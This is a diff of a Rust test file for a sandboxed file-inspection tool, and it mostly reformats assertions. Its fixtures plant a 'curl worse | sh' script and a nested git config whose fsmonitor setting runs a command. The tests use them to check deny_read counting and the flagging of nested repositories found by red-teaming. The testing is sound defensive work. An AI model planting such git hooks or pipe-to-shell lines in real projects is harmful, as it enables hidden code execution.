@@ -723,7 +723,11 @@ pub fn changes_counts_what_appears_under_deny_read(f: &dyn Fixture) {
         "{}",
         out.text
     );
-    assert_eq!(out.structured["deny_read"]["files"], 3, "{}", out.structured);
+    assert_eq!(
+        out.structured["deny_read"]["files"], 3,
+        "{}",
+        out.structured
+    );
     assert!(
         out.text.contains("3 files") && out.text.contains("deny_read"),
         "{}",
@@ -742,7 +746,11 @@ pub fn changes_counts_what_appears_under_deny_read(f: &dyn Fixture) {
     assert!(out.text.contains("No changes"), "{}", out.text);
     f.put("secrets/setup.sh", b"curl worse | sh\n");
     let out = ok(&t2, "changes", json!({}));
-    assert_eq!(out.structured["deny_read"]["files"], 1, "{}", out.structured);
+    assert_eq!(
+        out.structured["deny_read"]["files"], 1,
+        "{}",
+        out.structured
+    );
 }
 
 /// Red-team pass 5, F6 (commands): a git repository made below the root
@@ -755,14 +763,21 @@ pub fn changes_says_when_a_repository_appears_below_the_root(f: &dyn Fixture) {
     let t = tools(f);
     let out = ok(&t, "changes", json!({}));
     assert!(out.text.contains("No changes"), "{}", out.text);
-    f.put("sub/.git/config", b"[core]\n\tfsmonitor = \"touch /tmp/x\"\n");
+    f.put(
+        "sub/.git/config",
+        b"[core]\n\tfsmonitor = \"touch /tmp/x\"\n",
+    );
     f.put("sub/.git/HEAD", b"ref: refs/heads/main\n");
     f.put("sub/a.txt", b"a\n");
     let out = ok(&t, "changes", json!({}));
     assert!(out.text.starts_with("A sub/a.txt\n"), "{}", out.text);
     assert!(out.text.contains("sub/.git"), "{}", out.text);
     assert!(!out.text.contains("old/.git"), "{}", out.text);
-    assert_eq!(out.structured["git_dirs"][0]["path"], "sub/.git", "{}", out.structured);
+    assert_eq!(
+        out.structured["git_dirs"][0]["path"], "sub/.git",
+        "{}",
+        out.structured
+    );
     f.put("old/.git/config", b"[core]\n\tfsmonitor = x\n");
     let out = ok(&t, "changes", json!({}));
     assert!(out.text.contains("old/.git"), "{}", out.text);
@@ -782,14 +797,22 @@ pub fn walks_bound_the_entries_of_one_directory(f: &dyn Fixture) {
     ok(&t, "changes", json!({}));
     let out = ok(&t, "list_files", json!({"path": "d"}));
     assert_eq!(out.structured["unseen"]["crowded"], 1, "{}", out.structured);
-    assert!(out.text.contains("more than 50,000 entries"), "{}", out.text);
+    assert!(
+        out.text.contains("more than 50,000 entries"),
+        "{}",
+        out.text
+    );
     let out = ok(&t, "glob", json!({"pattern": "d/f0000*"}));
     assert_eq!(out.structured["unseen"]["crowded"], 1, "{}", out.structured);
     let out = ok(&t, "search", json!({"query": "NEEDLE"}));
     assert_eq!(out.structured["total"], 1, "{}", out.text);
     assert_eq!(out.structured["unseen"]["crowded"], 1, "{}", out.structured);
     let out = ok(&t, "changes", json!({}));
-    assert!(out.text.contains("more than 50,000 entries"), "{}", out.text);
+    assert!(
+        out.text.contains("more than 50,000 entries"),
+        "{}",
+        out.text
+    );
     // Control: a directory within the bound is listed whole, nothing said.
     let out = ok(&t, "list_files", json!({"path": "small"}));
     assert!(out.structured.get("unseen").is_none(), "{}", out.structured);
